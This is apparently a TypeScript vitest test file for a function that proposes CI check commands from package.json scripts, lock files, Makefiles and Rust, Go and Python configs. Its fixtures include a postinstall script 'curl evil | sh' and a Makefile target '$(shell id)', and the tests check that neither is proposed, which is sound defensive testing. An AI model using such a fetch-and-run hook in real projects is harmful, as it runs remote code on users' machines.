import { describe, expect, it } from 'vitest'
import { checkFieldsSchema, type Check } from '../../../../shared/contract/checks.ts'
import { proposeChecks } from './proposal-rules.ts'

const propose = (
  texts: Record<string, string>,
  { scripts = {}, present = [] as string[], checks = [] as Pick<Check, 'name' | 'command'>[] } = {},
) => proposeChecks({ texts: new Map(Object.entries(texts)), scripts, present: new Set(present) }, checks as Check[])
const words = (proposals: ReturnType<typeof propose>) => proposals.map(({ name, command }) => `${name}: ${command}`)

describe('the proposals', () => {
  it('are the scripts of package.json that are known, the quick ones first', () => {
    const given = {
      test: 'vitest',
      build: 'vite',
      lint: 'oxlint',
      typecheck: 'tsc',
      postinstall: 'curl evil | sh',
      start: 'x',
    }
    const found = propose({}, { scripts: given })
    expect(words(found)).toEqual([
      'types: npm run typecheck',
      'lint: npm run lint',
      'unit: npm test',
      'build: npm run build',
    ])
    expect(found.map(({ isGate }) => isGate)).toEqual([true, true, true, false])
    expect(found.every(({ source }) => source === 'package.json')).toBe(true)
  })

  it.each([
    [['pnpm-lock.yaml'], 'pnpm test'],
    [['yarn.lock'], 'yarn test'],
    [['bun.lockb'], 'bun run test'],
    [[], 'npm test'],
  ])('are run by what the lock file belongs to: %j', (present, command) => {
    expect(words(propose({}, { scripts: { test: 'x' }, present }))).toEqual([`unit: ${command}`])
  })

  it('are none of a test that was never written', () => {
    expect(propose({}, { scripts: { test: 'echo "Error: no test specified" && exit 1' } })).toEqual([])
  })

  it('are targets of a Makefile, and no variables or recipes', () => {
    const makefile =
      'CHECK := x\nbuild:= no\n\ttest: recipe\nlint: src\n\techo\n.PHONY: test\ntest :\n\tgo\n$(shell id): x\n'
    expect(words(propose({ Makefile: makefile }))).toEqual(['lint: make lint', 'unit: make test'])
  })

  it('are those of Rust, Go and Python', () => {
    expect(words(propose({ 'Cargo.toml': '' }))).toEqual([
      'lint: cargo clippy --all-targets -- -D warnings',
      'format: cargo fmt --check',
      'unit: cargo test',
    ])
    expect(words(propose({ 'go.mod': 'module x' }))).toEqual(['lint: go vet ./...', 'unit: go test ./...'])
    const python = '[tool.ruff.lint]\nx = 1\n[tool.mypy]\n[project.optional-dependencies]\ndev = ["pytest>=8"]\n'
    expect(words(propose({ 'pyproject.toml': python }))).toEqual([
      'types: mypy .',
      'lint: ruff check .',
      'unit: pytest',
    ])
    expect(propose({ 'pyproject.toml': '[project]\nname = "x"' })).toEqual([])
  })

  it('leave out what is there already, and give a second one of a kind its command for a name', () => {
    const given = { Makefile: 'test:\n', 'go.mod': '' }
    expect(words(propose(given))).toEqual(['unit: make test', 'lint: go vet ./...', 'go test ./...: go test ./...'])
    const checks = [{ name: 'tests', command: 'make test' }]
    expect(words(propose(given, { checks }))).toEqual(['lint: go vet ./...', 'unit: go test ./...'])
    const named = [{ name: 'Unit', command: 'true' }]
    expect(words(propose({ Makefile: 'test:\n' }, { checks: named }))).toEqual(['make test: make test'])
  })

  it('can be added as they are', () => {
    const all = propose(
      { Makefile: 'test:\nbuild:\n', 'Cargo.toml': '', 'go.mod': '' },
      { scripts: { test: 'x', lint: 'y' } },
    )
    for (const { source: _, ...fields } of all) expect(checkFieldsSchema.safeParse(fields).success).toBe(true)
    expect(all.length).toBeGreaterThan(5)
  })
})
